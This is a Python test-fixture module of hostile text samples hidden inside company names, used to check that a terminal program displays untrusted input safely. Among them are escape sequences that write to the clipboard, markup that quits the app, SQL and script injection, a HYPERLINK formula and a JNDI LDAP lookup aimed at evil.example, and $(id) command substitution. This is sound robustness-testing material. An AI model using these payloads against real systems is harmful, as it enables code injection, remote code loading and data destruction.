"""Texts that hurt a careless terminal program, and the records that hold them."""

TEXTS = (
    "Quill \x1b]52;c;cHduZWQ=\x07 Systems",
    "Quarry \x1b]0;owned\x1b\\ Holdings",
    "Raven \x1b[2J\x1b[1;1H\x1b[31mred\x1b[0m Ltd",
    "Rowan \x9b31m C1 \x9d0;title\x9c Ltd",
    "Sable \x01\x02\x07\x08\x0b\x0c\x0e\x7f Controls",
    "Tern \u202eevil\u202c \u2066isolate\u2069 Traders",
    "Umber\u200b\u200d\u2060\ufeff Zero\u00adWidth",
    "Acme [/] Ltd",
    "Nova [@click=app.quit]x[/] Media",
    "Opal [link=https://evil.example]click[/link]",
    "Pike [/etc/passwd] [bold red]Boats[/]",
    "Otter\nTwo\r\nLines\tand tabs",
    "Zalgo Z̸̢̛̗͉̭̈́̃͜a̴̡̘̯͗̇̑͝l̷̨̲̠̈́̀̓͘g̵̛̻̱̉͊̚o̶̧̤̮͋̓̕ Labs",
    "Family 👨‍👩‍👧‍👦 🏳️‍🌈 👍🏽 🇬🇧 Toys",
    "شركة الأمل ABC 123 עברית",
    "Very long name ".ljust(100, "w"),
    "Lone \ud800 surrogate \udfff Ltd",
    "Yarrow <script>alert(1)</script> & “quotes” \\ back/slash",
    "Yew '; DROP TABLE accounts; -- %_*?",
    'Zenith\n=HYPERLINK("https://evil.example";"x")',
    "Vole \u2028line\u2029paragraph\u0085next",
    "Zinnia ${jndi:ldap://evil.example/x} {0} %s $(id) `id`",
)  # fmt: skip
LONG = ("A very long note. " * 556)[:10_000]
"""As long as a text area may be."""
_FIRST = 60
_STEP = 5


def hostile_text(index: int, size: int) -> str | None:
    """The text for a record by its index among `size` records, None for most of them.

    The first screen of every list stays presentable; a small list has them at its end.
    """
    if size < _FIRST + _STEP * len(TEXTS):
        place = size - 1 - index
        return TEXTS[place] if place < min(len(TEXTS), max(1, size - 45)) and size > 2 else None
    place, odd = divmod(index - _FIRST, _STEP)
    return TEXTS[place] if not odd and 0 <= place < len(TEXTS) else None
